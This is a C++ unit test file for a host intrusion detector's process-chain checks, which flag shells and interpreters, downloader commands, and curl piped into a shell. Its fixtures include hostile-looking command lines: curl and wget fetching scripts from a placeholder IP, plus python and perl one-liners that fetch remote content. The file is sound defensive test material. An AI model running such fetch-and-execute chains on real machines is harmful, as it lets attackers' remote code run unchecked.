// Units of the process-chain detections: which programs are shells or interpreters and which
// fetch or decode a payload (the live chains are the case tests/cases/agent/process-chains).

#include "mimamori/host/process_chain.h"

#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>

#include "mimamori/core/eve.h"

namespace mimamori::host {
namespace {

TEST(ProcessChain, ShellsAndInterpretersByExecutableName) {
  for (const char* exe : {"/usr/bin/dash", "/bin/bash", "/usr/bin/python3.11", "/usr/bin/perl",
                          "/usr/bin/zsh", "/usr/bin/busybox"})
    EXPECT_TRUE(is_shell_or_interpreter(exe)) << exe;
  for (const char* exe : {"/usr/bin/curl", "/usr/bin/shred", "/usr/bin/sha256sum", "/usr/bin/ls",
                          "/usr/bin/bashbug", ""})
    EXPECT_FALSE(is_shell_or_interpreter(exe)) << exe;
}

TEST(ProcessChain, DownloadersAndDecodersButNotTheirOrdinaryUses) {
  EXPECT_TRUE(is_downloader("/usr/bin/curl", "curl -s http://198.51.100.9/x.sh"));
  EXPECT_TRUE(is_downloader("/usr/bin/wget", "wget -qO- http://198.51.100.9/x"));
  EXPECT_TRUE(is_downloader("/usr/bin/base64", "base64 -d"));
  EXPECT_TRUE(
      is_downloader("/usr/bin/python3.11",
                    "python3 -c import urllib.request as u;print(u.urlopen('http://x').read())"));
  EXPECT_TRUE(is_downloader("/usr/bin/perl", "perl -e use LWP::Simple; print get('http://x')"));
  EXPECT_FALSE(is_downloader("/usr/bin/base64", "base64 backup.tar"));
  EXPECT_FALSE(is_downloader("/usr/bin/python3.11", "python3 -c print(1)"));
  EXPECT_FALSE(is_downloader("/usr/bin/python3.11", "python3 manage.py runserver http://x"));
  EXPECT_FALSE(is_downloader("/usr/bin/sort", "sort http://x"));
}

TEST(ProcessChain, AlertCarriesTheChain) {
  ChainFinding f;
  f.kind = "pipe_to_shell";
  f.parent = {10, 0, "root", "/usr/bin/bash", "bash"};
  f.source = ChainMember{11, 1000, "alice", "/usr/bin/curl", "curl http://x/i.sh"};
  f.siblings.push_back(*f.source);
  f.pipe_inode = 42;
  core::Event e = host_event(core::event_type::kProcess);
  add_chain(e, f);
  std::string json = core::to_eve(e);
  EXPECT_NE(json.find(R"("chain":{"kind":"pipe_to_shell","parent":{"pid":10,)"), std::string::npos)
      << json;
  EXPECT_NE(json.find(R"("source":{"pid":11,"uid":1000,"user":"alice","exe":"/usr/bin/curl")"),
            std::string::npos)
      << json;
  EXPECT_NE(json.find(R"("siblings":[{"pid":11,)"), std::string::npos) << json;
  EXPECT_NE(json.find(R"("pipe_inode":42)"), std::string::npos) << json;
  EXPECT_EQ(json.find(R"("file")"), std::string::npos) << json;  // no file in this chain
}

// A /proc of three processes: bash (100) whose children are a curl (201) that has already exited
// and a dash (202) reading a pipe.
class FakeProc : public ::testing::Test {
 protected:
  void SetUp() override {
    root_ = std::filesystem::temp_directory_path() /
            ("mimamori_chain_proc_" + std::to_string(::getpid()));
    std::filesystem::remove_all(root_);
    proc(100, "/usr/bin/bash", std::string("bash\0typed.sh\0", 14));
    std::filesystem::create_directories(root_ / "100/task/100");
    std::ofstream(root_ / "100/task/100/children") << "201 202 ";
    proc(202, "/usr/bin/dash", std::string("sh\0", 3));
    std::filesystem::create_directories(root_ / "202/fd");
    std::filesystem::create_symlink("pipe:[77]", root_ / "202/fd/0");
    std::filesystem::create_symlink("/dev/null", root_ / "202/fd/1");
  }
  void TearDown() override { std::filesystem::remove_all(root_); }
  void proc(int pid, const std::string& exe, const std::string& cmdline) {
    auto d = root_ / std::to_string(pid);
    std::filesystem::create_directories(d);
    std::filesystem::create_symlink(exe, d / "exe");
    std::ofstream(d / "cmdline") << cmdline;
  }
  static ProcessInfo info(int pid, const std::string& exe, const std::string& cmdline) {
    ProcessInfo p;
    p.pid = pid;
    p.ppid = 100;
    p.exe = exe;
    p.cmdline = cmdline;
    p.parent_exe = "/usr/bin/bash";
    p.parent_cmdline = "bash typed.sh";
    return p;
  }
  std::filesystem::path root_;
};

TEST_F(FakeProc, ADownloaderGoneBeforeItsOutputWasReadStillNamesThePipeIntoAShell) {
  const ProcessInfo curl = info(201, "/usr/bin/curl", "curl -s http://127.0.0.1/x.sh");
  const ProcessInfo sh = info(202, "/usr/bin/dash", "sh");
  // Either order of the two exec events gives one finding, with the downloader as its source.
  for (bool curl_first : {true, false}) {
    ProcessChains chains(root_.string());
    std::vector<ChainFinding> out;
    chains.check(curl_first ? curl : sh, out);
    chains.check(curl_first ? sh : curl, out);
    ASSERT_EQ(out.size(), 1u) << "curl first: " << curl_first;
    EXPECT_EQ(out[0].kind, "pipe_to_shell");
    EXPECT_EQ(out[0].pipe_inode, 77u);
    ASSERT_TRUE(out[0].source);
    EXPECT_EQ(out[0].source->exe, "/usr/bin/curl");
    EXPECT_TRUE(out[0].source_exited);
    EXPECT_EQ(out[0].parent.cmdline, "bash typed.sh");
  }
}

TEST_F(FakeProc, AShellReadingAPipeWithNoDownloaderAroundIsNoFinding) {
  ProcessChains chains(root_.string());
  std::vector<ChainFinding> out;
  chains.check(info(202, "/usr/bin/dash", "sh"), out);
  // An ordinary program of the same parent that exited unread is no downloader.
  chains.check(info(201, "/usr/bin/echo", "echo sleep 1"), out);
  EXPECT_TRUE(out.empty());
}

}  // namespace
}  // namespace mimamori::host
